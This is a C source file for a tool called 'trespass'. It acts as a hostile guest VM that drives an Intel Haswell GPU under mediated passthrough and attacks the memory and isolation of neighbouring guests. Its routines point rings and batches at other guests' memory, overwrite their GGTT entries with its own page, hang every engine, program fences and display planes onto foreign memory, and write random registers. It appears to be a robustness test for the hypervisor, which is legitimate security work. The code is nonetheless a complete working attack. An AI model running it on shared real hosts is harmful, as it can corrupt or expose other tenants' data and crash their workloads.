// SPDX-License-Identifier: GPL-2.0 OR MIT
/*
 * usage: trespass ADDRESS PAGES SECONDS NAME...
 *
 * A guest's kernel that has gone bad: it drives the GPU at PCI ADDRESS from
 * user space and does what a guest must not, as NAMEs say and in turn, until
 * the time is over. Its share is what PVINFO says; all else is its neighbours'.
 * No driver must be bound, but for "planes", which wants a pipe that is on.
 *
 * What the GPU writes ends in two PAGES, which the kernel must have been told to
 * keep off (memmap=), so that the guest itself survives: nothing else is mapped
 * when the first attack begins.
 *
 * Exit status: 0 all was done, 2 something could not be done.
 */
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "request.h"

#define PAGE		4096u
#define ENTRY_VALID	UINT32_C(1)

/* Registers of a Haswell, from i915_reg.h and i915_pvinfo.h. */
#define PVINFO		0x78000
#define PVINFO_SIZE	0x1000
#define PV_SLICES	(PVINFO + 0x40)
#define PV_FENCES	(PVINFO + 0x50)
#define PV_NOTIFY	(PVINFO + 0x818)
#define PV_ROOTS	(PVINFO + 0x838)
#define RING_TAIL	0x30
#define RING_HEAD	0x34
#define RING_START	0x38
#define RING_CTL	0x3c
#define RING_PP_DCLV	0x220
#define RING_PP_BASE	0x228
#define RING_MODE	0x29c
#define GDRST		0x941c
#define FENCE		0x100000
#define FLSH_CNTL	0x101008
#define PIPE_CRC_CTL	0x60050
#define DSPSURF		0x7019c
#define CURBASE		0x70084

#define RING_VALID	UINT32_C(1)
#define RING_LARGEST	UINT32_C(0x001ff001)
#define PPGTT_ENABLE	UINT32_C(0x02000200)
#define FENCES		32
#define CRC_ENABLE	UINT32_C(0x80000000)

#define MI_STORE_DATA_IMM	(UINT32_C(0x20) << 23 | UINT32_C(1) << 22 | 2)
#define MI_LOAD_REGISTER_IMM	(UINT32_C(0x22) << 23 | 1)
#define MI_STORE_REGISTER_MEM	(UINT32_C(0x24) << 23 | UINT32_C(1) << 22 | 1)
#define MI_BATCH_BUFFER_START	(UINT32_C(0x31) << 23)
#define UNKNOWN_COMMAND		(UINT32_C(0x3e) << 23)
#define OVERLONG_COMMAND	(UINT32_C(0x22) << 23 | 0xff)

/* In the order of their bits in GDRST, the first of which is 1. */
static const uint32_t engines[] = { 0x2000, 0x12000, 0x22000, 0x1a000 };
#define ENGINES (sizeof(engines) / sizeof(engines[0]))

struct area {
	volatile uint32_t *words;
	uint64_t size;
};

struct range {
	uint32_t base;
	uint32_t size;
};

/* @entries are those of the GGTT; @page, and one for loops behind it, are ours and lie at graphics address @at. */
struct gpu {
	struct area registers;
	struct area entries;
	struct area aperture;
	struct range slices[2];
	uint32_t fences;
	volatile uint32_t *page;
	uint64_t physical;
	uint32_t at;
	uint32_t random;
};

static uint32_t get(const struct gpu *gpu, uint32_t offset)
{
	return gpu->registers.words[offset / 4];
}

static void set(const struct gpu *gpu, uint32_t offset, uint32_t value)
{
	gpu->registers.words[offset / 4] = value;
}

static uint32_t next_random(struct gpu *gpu)
{
	gpu->random ^= gpu->random << 13;
	gpu->random ^= gpu->random >> 17;
	gpu->random ^= gpu->random << 5;
	return gpu->random;
}

static bool is_ours(const struct gpu *gpu, uint64_t address)
{
	for (unsigned int i = 0; i < 2; i++) {
		if (address - gpu->slices[i].base < gpu->slices[i].size)
			return true;
	}
	return false;
}

/* A page of somebody else, another one each time. */
static uint32_t foreign(struct gpu *gpu)
{
	uint32_t pages = (uint32_t)(gpu->entries.size / 4), page;

	do {
		page = next_random(gpu) % pages;
	} while (is_ours(gpu, (uint64_t)page * PAGE));
	return page * PAGE;
}

static uint32_t entry_of(uint64_t physical)
{
	return (uint32_t)physical | (uint32_t)(physical >> 28 & 0x7f0) | ENTRY_VALID;
}

/* ---- the engines -------------------------------------------------------------- */

static void stop(const struct gpu *gpu, unsigned int engine)
{
	set(gpu, engines[engine] + RING_CTL, 0);
	set(gpu, GDRST, UINT32_C(2) << engine);
	set(gpu, engines[engine] + RING_HEAD, 0);
	set(gpu, engines[engine] + RING_TAIL, 0);
}

static void submit(const struct gpu *gpu, unsigned int engine, const uint32_t *commands, uint32_t count)
{
	stop(gpu, engine);
	for (uint32_t i = 0; i < count; i++)
		gpu->page[i] = commands[i];
	gpu->page[count] = 0;
	set(gpu, engines[engine] + RING_START, gpu->at);
	set(gpu, engines[engine] + RING_CTL, RING_VALID);
	set(gpu, engines[engine] + RING_TAIL, (count + 1) / 2 * 8);
}

/* Rings that lie in others' memory, and heads and tails that lie nowhere. */
static void attack_rings(struct gpu *gpu)
{
	static const uint32_t tails[] = { 8, 0xffc, 0x1000, 0x1ffff8, 0x1fffff, 0x7ffffff8, UINT32_MAX };

	for (unsigned int i = 0; i < ENGINES; i++) {
		for (unsigned int j = 0; j < sizeof(tails) / sizeof(tails[0]); j++) {
			stop(gpu, i);
			set(gpu, engines[i] + RING_START, j & 1 ? gpu->at : foreign(gpu));
			set(gpu, engines[i] + RING_HEAD, j & 2 ? next_random(gpu) : 0);
			set(gpu, engines[i] + RING_CTL, j & 4 ? RING_VALID : RING_LARGEST);
			set(gpu, engines[i] + RING_TAIL, tails[j]);
			get(gpu, engines[i] + RING_HEAD);
		}
	}
}

/* A batch that starts itself for ever, on all engines at once, until each is reset. */
static void attack_hang(struct gpu *gpu)
{
	const uint32_t loop[] = { MI_BATCH_BUFFER_START, gpu->at + PAGE };
	const struct timespec pause = { .tv_nsec = 100 * 1000 * 1000 };

	for (unsigned int i = 0; i < 2; i++)
		gpu->page[PAGE / 4 + i] = loop[i];
	for (unsigned int i = 0; i < ENGINES; i++)
		submit(gpu, i, loop, 2);
	nanosleep(&pause, NULL);
}

/* Commands that read, write and run what is not ours, and some that no engine knows. */
static void attack_commands(struct gpu *gpu)
{
	const uint32_t theirs = foreign(gpu);
	const uint32_t commands[][4] = {
		{ MI_STORE_DATA_IMM, 0, theirs, 0xdeadbeef },
		{ MI_STORE_REGISTER_MEM, PVINFO, theirs, 0 },
		{ MI_LOAD_REGISTER_IMM, FENCE + 8 * (FENCES - 1), UINT32_MAX, 0 },
		{ MI_BATCH_BUFFER_START, theirs, 0, 0 },
		{ UNKNOWN_COMMAND, theirs, theirs, theirs },
		{ OVERLONG_COMMAND, theirs, theirs, theirs },
	};

	for (unsigned int i = 0; i < ENGINES; i++) {
		for (unsigned int j = 0; j < sizeof(commands) / sizeof(commands[0]); j++) {
			submit(gpu, i, commands[j], 4);
			get(gpu, engines[i] + RING_HEAD);
		}
	}
}

/* Page tables of others, and roots of page tables that nobody has, more than any host can remember. */
static void attack_roots(struct gpu *gpu)
{
	const uint32_t run[] = { MI_BATCH_BUFFER_START | UINT32_C(1) << 8, 0 };

	for (unsigned int i = 0; i < 500; i++) {
		set(gpu, PV_ROOTS, next_random(gpu) & ~(PAGE - 1));
		set(gpu, PV_NOTIFY, i % 8);
	}
	for (unsigned int i = 0; i < ENGINES; i++) {
		set(gpu, engines[i] + RING_MODE, PPGTT_ENABLE);
		set(gpu, engines[i] + RING_PP_DCLV, UINT32_MAX);
		set(gpu, engines[i] + RING_PP_BASE, foreign(gpu) / PAGE / 16 << 16);
		submit(gpu, i, run, 2);
	}
}

/* ---- the rest ------------------------------------------------------------------- */

/* Entries of others that would give them our page, those right beside our slices among them. */
static void attack_entries(struct gpu *gpu)
{
	uint32_t ours = entry_of(gpu->physical);

	for (unsigned int i = 0; i < 2; i++) {
		uint32_t first = gpu->slices[i].base / PAGE;
		uint32_t end = first + gpu->slices[i].size / PAGE;

		if (first && !is_ours(gpu, (uint64_t)(first - 1) * PAGE))
			gpu->entries.words[first - 1] = ours;
		if (end < gpu->entries.size / 4 && !is_ours(gpu, (uint64_t)end * PAGE))
			gpu->entries.words[end] = ours;
	}
	for (unsigned int i = 0; i < 20000; i++)
		gpu->entries.words[foreign(gpu) / PAGE] = ours;
}

static void attack_fences(struct gpu *gpu)
{
	for (unsigned int i = 0; i < FENCES; i++) {
		uint32_t theirs = foreign(gpu);

		set(gpu, FENCE + 8 * i + 4, theirs | next_random(gpu) % PAGE);
		set(gpu, FENCE + 8 * i, theirs | 1);
		get(gpu, FENCE + 8 * i);
	}
	for (unsigned int i = 0; i < gpu->fences; i++)
		set(gpu, FENCE + 8 * i, 0);	/* what it shows is ours again */
}

/* Through the aperture, outside of our slice and where nothing is mapped. */
static void attack_aperture(struct gpu *gpu)
{
	for (unsigned int i = 0; i < 500; i++) {
		uint64_t at = next_random(gpu) % gpu->aperture.size;

		gpu->aperture.words[at / 4] = 0xdeadbeef;
		if (i % 10 == 0)
			(void)gpu->aperture.words[at / 4];
	}
}

/*
 * Anything in any register, but for PVINFO: a guest that writes the wrong word
 * there is cut off, and nothing that it did afterwards would mean anything.
 */
static void attack_registers(struct gpu *gpu)
{
	for (unsigned int i = 0; i < 5000; i++) {
		uint32_t offset = next_random(gpu) % (uint32_t)gpu->registers.size & ~UINT32_C(3);

		if (offset - PVINFO < PVINFO_SIZE)
			continue;
		set(gpu, offset, next_random(gpu));
		if (i % 10 == 0)
			get(gpu, offset);
	}
}

static void attack_flood(struct gpu *gpu)
{
	for (unsigned int i = 0; i < 50000; i++)
		set(gpu, i & 1 ? FLSH_CNTL : GDRST, i & 1 ? 1 : 2);
}

/* Planes and a cursor out of others' memory, and sums of what they show. */
static void attack_planes(struct gpu *gpu)
{
	set(gpu, PIPE_CRC_CTL, CRC_ENABLE);
	for (unsigned int i = 0; i < 20; i++) {
		const struct timespec frame = { .tv_nsec = 17 * 1000 * 1000 };

		set(gpu, CURBASE, foreign(gpu));
		set(gpu, DSPSURF, foreign(gpu));
		nanosleep(&frame, NULL);
	}
	set(gpu, PIPE_CRC_CTL, 0);
}

static const struct attack {
	const char *name;
	void (*begin)(struct gpu *gpu);
} attacks[] = {
	{ .name = "rings", .begin = attack_rings },
	{ .name = "hang", .begin = attack_hang },
	{ .name = "commands", .begin = attack_commands },
	{ .name = "roots", .begin = attack_roots },
	{ .name = "entries", .begin = attack_entries },
	{ .name = "fences", .begin = attack_fences },
	{ .name = "aperture", .begin = attack_aperture },
	{ .name = "registers", .begin = attack_registers },
	{ .name = "flood", .begin = attack_flood },
	{ .name = "planes", .begin = attack_planes },
};

static const struct attack *find(const char *name)
{
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		if (!strcmp(attacks[i].name, name))
			return &attacks[i];
	}
	fprintf(stderr, "trespass: there is no attack '%s'\n", name);
	exit(2);
}

/* ---- the beginning --------------------------------------------------------------- */

/* @part of a BAR's two halves, or with 2 both of them. */
static struct area map_bar(const char *address, unsigned int bar, unsigned int part)
{
	char path[128];
	struct stat file;
	off_t size;
	void *at;
	int fd;

	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/resource%u", address, bar);
	fd = open(path, O_RDWR | O_SYNC | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &file))
		die(path);
	size = part == 2 ? file.st_size : file.st_size / 2;
	at = mmap(NULL, (size_t)size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, part == 1 ? size : 0);
	if (at == MAP_FAILED)
		die(path);
	close(fd);
	return (struct area) { at, (uint64_t)size };
}

static void map_pages(struct gpu *gpu)
{
	int fd = open("/dev/mem", O_RDWR | O_SYNC | O_CLOEXEC);
	void *page;

	if (fd < 0)
		die("/dev/mem");
	page = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (off_t)gpu->physical);
	if (page == MAP_FAILED)
		die("/dev/mem");
	close(fd);
	gpu->page = memset(page, 0, 2 * PAGE);
}

static void open_gpu(struct gpu *gpu, const char *address)
{
	gpu->registers = map_bar(address, 0, 0);
	gpu->entries.size = gpu->registers.size;
	for (unsigned int i = 0; i < 2; i++)
		gpu->slices[i] = (struct range) { get(gpu, PV_SLICES + 8 * i), get(gpu, PV_SLICES + 8 * i + 4) };
	gpu->fences = get(gpu, PV_FENCES);
	gpu->at = gpu->slices[1].base;
}

/* Whatever the driver left mapped belongs to somebody else by now. */
static void clear_entries(const struct gpu *gpu)
{
	for (unsigned int i = 0; i < 2; i++) {
		for (uint32_t at = 0; at < gpu->slices[i].size; at += PAGE)
			gpu->entries.words[(gpu->slices[i].base + at) / PAGE] = 0;
	}
}

/* What a driver that is bound has to itself: table and aperture, and the engines. */
static void take_over(struct gpu *gpu, const char *address)
{
	gpu->entries = map_bar(address, 0, 1);
	gpu->aperture = map_bar(address, 2, 2);
	map_pages(gpu);
	clear_entries(gpu);
	for (unsigned int i = 0; i < 2; i++)
		gpu->entries.words[gpu->at / PAGE + i] = entry_of(gpu->physical + i * PAGE);
}

static uint64_t now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (uint64_t)now.tv_sec * 1000 + (uint64_t)now.tv_nsec / 1000000;
}

static int usage(void)
{
	fprintf(stderr, "usage: trespass ADDRESS PAGES SECONDS NAME...\n"
		"PAGES is a physical address below 4 GiB, SECONDS are 1 to 3600\n");
	return 2;
}

static unsigned int run(struct gpu *gpu, char **names, uint64_t ms)
{
	uint64_t end = now_ms() + ms;
	unsigned int done = 0;

	do {
		for (char **name = names; *name; name++, done++)
			find(*name)->begin(gpu);
	} while (now_ms() < end);
	return done;
}

int main(int argc, char **argv)
{
	struct gpu gpu = { .physical = argc > 4 ? strtoull(argv[2], NULL, 0) : 0, .random = 1 };
	uint64_t seconds = argc > 4 ? strtoull(argv[3], NULL, 10) : 0;

	if (!seconds || seconds > 3600 || !gpu.physical || gpu.physical >> 32 || gpu.physical % PAGE)
		return usage();
	open_gpu(&gpu, argv[1]);
	if (strcmp(argv[4], "planes"))
		take_over(&gpu, argv[1]);
	printf("%u attacks\n", run(&gpu, argv + 4, seconds * 1000));
	return 0;
}
